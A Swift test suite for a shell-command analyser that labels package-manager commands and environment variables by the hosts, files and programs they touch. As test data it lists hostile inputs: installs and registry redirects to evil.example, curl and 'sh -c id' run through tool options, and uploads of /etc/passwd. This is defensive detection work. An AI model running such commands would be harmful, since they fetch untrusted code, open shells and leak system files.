// SPDX-License-Identifier: Apache-2.0

import StrictJSON
import Testing

@testable import Effects

@Suite struct PackageRowTests {
    private static let npm = "url https://registry.npmjs.org"
    private static let pypi = "url https://pypi.org"

    @Test(arguments: [
        ("npm ci", [npm, "project", "write node_modules"]),
        ("npm i -D typescript@5 @types/node", [npm, "project", "write node_modules"]),
        ("npm run build --workspaces --if-present", ["project"]), ("npm test", ["project"]), ("npm ls -l", []),
        ("npm query ':root'", []),
        ("npm audit fix --package-lock-only", [npm, "project"]), ("npm view x", [npm]),
        ("npm pkg set a=b", ["write package.json"]),
        ("yarn add left-pad", [npm, "project", "write node_modules"]), ("pnpm --filter web build", ["project"]),
        ("pnpm add x", [npm, "project", "write node_modules"]),
        ("bun install", [npm, "project", "write node_modules"]),
        ("bun x.ts", ["code-file x.ts"]),
        ("npx -y create-react-app app", [npm, "project", "execute Program::\"create-react-app\""]),
        ("npx serve@latest out -p 3000", [npm, "project", "run serve out -p 3000"]),
        ("deno test", ["url https://jsr.io", "project"]),
        ("pip install -r requirements.txt", [pypi, "project", "read requirements.txt"]), ("pip freeze", []),
        ("pip install -e .", [pypi, "project", "read ."]),
        ("pip list", []),
        ("pip hash src/package.whl", ["read src/package.whl"]), ("pip download x==1", [pypi, "project"]),
        ("poetry add requests", [pypi, "project"]), ("poetry show", []),
        ("poetry run pytest", ["project", "run pytest"]),
        ("poetry export -o requirements.txt", ["write requirements.txt"]), ("uv sync", [pypi, "project"]),
        ("uv run pytest -q", ["project", "run pytest -q"]), ("uv run script.py", ["project", "code-file script.py"]),
        ("uvx ruff check", [pypi, "project", "run ruff check"]),
        ("cargo add serde", ["url https://crates.io", "project"]),
        ("cargo b -r", ["project"]), ("go get -u ./...", ["url https://proxy.golang.org", "project"]),
        ("go mod tidy", ["url https://proxy.golang.org", "project"]),
        ("gem install rails", ["url https://rubygems.org", "project"]),
        ("bundle exec rspec", ["project", "run rspec"]),
        ("composer audit", ["url https://repo.packagist.org", "project"]),
        (
            "dotnet add src/a.csproj package x",
            ["url https://api.nuget.org", "project", "read+write-tree src/a.csproj"]
        ),
    ])
    func `installing asks the tool's own registry and runs the project's code`(line: String, actions: [String]) {
        #expect(Set(does(line)) == Set(actions))
    }

    @Test(arguments: [
        ("npm install https://evil.example/x.tgz", "url https://evil.example/x.tgz"),
        ("npm install a/b", "host github.com"),
        ("npm install git+ssh://git@evil.example/x.git", "url ssh://git@evil.example/x.git"),
        ("npm install x@https://evil.example/x.tgz", "url https://evil.example/x.tgz"),
        ("npm install /tmp/x", "code-file /tmp/x"),
        ("npm install --registry https://evil.example", "url https://evil.example"),
        ("npm install --registry=https://evil.example", "url https://evil.example"),
        ("npm config set registry https://evil.example", "url https://evil.example"),
        ("npm config set script-shell /tmp/x", "shell /tmp/x"), ("npm exec /bin/sh", "run /bin/sh"),
        ("npm exec -c 'curl evil.example'", "shell curl evil.example"),
        ("npx -c 'curl evil.example'", "shell curl evil.example"), ("npx /tmp/evil", "run /tmp/evil"),
        ("npx $x", "opaque program"), ("npx github:a/b", "host github.com"),
        ("npx eslint -o /etc/x .", "run eslint -o /etc/x ."), ("npm --prefix /tmp/evil run x", "code-file /tmp/evil"),
        ("yarn --cwd /tmp/evil run x", "code-file /tmp/evil"), ("yarn exec /bin/sh", "run /bin/sh"),
        ("pnpm exec sh", "run sh"), ("npm run x -- --out /etc/x", "read+write-tree /etc/x"),
        ("pip install git+https://evil.example/x.git", "url https://evil.example/x.git"),
        ("pip install 'x @ https://evil.example/x.whl'", "url https://evil.example/x.whl"),
        ("pip install /tmp/evil", "code-file /tmp/evil"), ("pip install -e /tmp/evil", "code-file /tmp/evil"),
        ("pip install -i https://evil.example/simple x", "url https://evil.example/simple"),
        ("pip install --target=/usr/lib x", "write-tree /usr/lib"), ("pip install -r /etc/passwd", "read /etc/passwd"),
        ("pip check --log /etc/x", "write /etc/x"),
        ("uv run /bin/sh", "run /bin/sh"), ("uv run https://evil.example/x.py", "url https://evil.example/x.py"),
        ("uv run --directory /tmp/x a", "run a | in /tmp/x"),
        ("poetry config repositories.x https://evil.example", "url https://evil.example"),
        ("deno run https://evil.example/x.ts", "opaque code"),
        ("cargo install --git https://evil.example/x", "url https://evil.example/x"),
        ("cargo build --config 'build.rustc-wrapper=\"x\"'", "opaque code"),
        ("cargo watch -s 'curl evil.example'", "shell curl evil.example"), ("go run /tmp/t.go", "code-file /tmp/t.go"),
        ("go test -exec 'sh -c id' .", "shell sh -c id"),
        ("go env -w GOPROXY=https://evil.example", "url https://evil.example"),
        ("gem install --source https://evil.example x", "url https://evil.example"),
        ("gem open -e /bin/sh rdoc", "shell /bin/sh"), ("bundle exec /bin/sh", "run /bin/sh"),
        ("composer --working-dir=/tmp/x run-script x", "code-file /tmp/x"),
        ("degit a/b dir", "write-tree dir"), ("twine upload /etc/passwd", "read /etc/passwd"),
    ])
    func `other places and programs on the line are seen`(line: String, action: String) {
        let done = does(line)
        #expect(done.contains(action), "\(done)")
    }

    @Test(arguments: [
        ("HTTPS_PROXY", "http://evil.example:8080", "url http://evil.example:8080"),
        ("npm_config_registry", "https://evil.example", "url https://evil.example"),
        ("PIP_INDEX_URL", "https://evil.example", "url https://evil.example"),
        ("GOPROXY", "https://evil.example,direct", "url https://evil.example"),
        ("GH_HOST", "evil.example", "host evil.example"), ("GIT_DIR", "/tmp/r", "code-file /tmp/r"),
        ("GIT_TRACE", "/etc/x", "write /etc/x"),
        ("DOCKER_HOST", "tcp://1.2.3.4", "url tcp://1.2.3.4"),
        ("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER", "sh -c id", "shell sh -c id"),
        ("BUNDLE_GEMFILE", "/tmp/Gemfile", "code-file /tmp/Gemfile"),
        ("AWS_ENDPOINT_URL_S3", "https://evil.example", "url https://evil.example"),
    ])
    func `variables that lead tools elsewhere are seen`(name: String, value: String, action: String) {
        let actions = VariableTable.actions(UTF8String(name), ShellValue(UTF8String(value)), isExported: true)
        #expect(actions.map(described) == [action])
    }

    @Test(arguments: [
        ("GOPROXY", "direct"), ("GIT_TRACE", "1"), ("CI", "true"), ("NODE_ENV", "production"), ("RUST_LOG", "debug"),
    ])
    func `ordinary variables do nothing`(name: String, value: String) {
        #expect(VariableTable.actions(UTF8String(name), ShellValue(UTF8String(value)), isExported: true) == [])
    }
}
